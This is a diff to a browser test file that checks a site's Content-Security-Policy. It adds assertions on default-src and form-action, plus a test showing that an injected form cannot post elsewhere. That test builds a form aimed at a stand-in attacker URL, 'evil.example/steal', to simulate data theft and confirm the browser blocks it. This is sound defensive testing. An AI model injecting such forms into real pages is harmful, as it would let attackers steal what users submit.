@@ -9,6 +9,9 @@ test('pages carry a script policy with a fresh nonce per response, and still hyd
     const policy = response.headers()['content-security-policy'] ?? ''
     expect(policy).toContain("script-src 'self'")
     expect(policy).toContain("object-src 'none'")
+    // Everything unnamed is this origin's alone; forms post here or to WayForPay's payment page only.
+    expect(policy).toContain("default-src 'self'")
+    expect(policy).toContain("form-action 'self' https://secure.wayforpay.com")
     const nonce = nonceOf(policy)
     expect(nonce, path).toBeTruthy()
     // The router's inline scripts (they remove themselves once run) carry it in the HTML.
@@ -60,4 +63,22 @@ test('two answers of one cached page: each its own nonce on every inline script,
   expect(first.nonce).not.toBe(second.nonce)
   expect(second.html).not.toContain(first.nonce)
   expect(first.html.replaceAll(first.nonce, 'NONCE')).toBe(second.html.replaceAll(second.nonce, 'NONCE'))
+})
+
+plain('a form injected into a page cannot post to another site', async ({ page }) => {
+  await page.goto('/')
+  const violated = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true })
+        const form = document.createElement('form')
+        form.method = 'post'
+        form.action = 'https://evil.example/steal'
+        document.body.appendChild(form)
+        form.submit()
+        setTimeout(() => resolve('none'), 2000)
+      }),
+  )
+  expect(violated).toBe('form-action')
+  expect(page.url()).not.toContain('evil.example')
 })
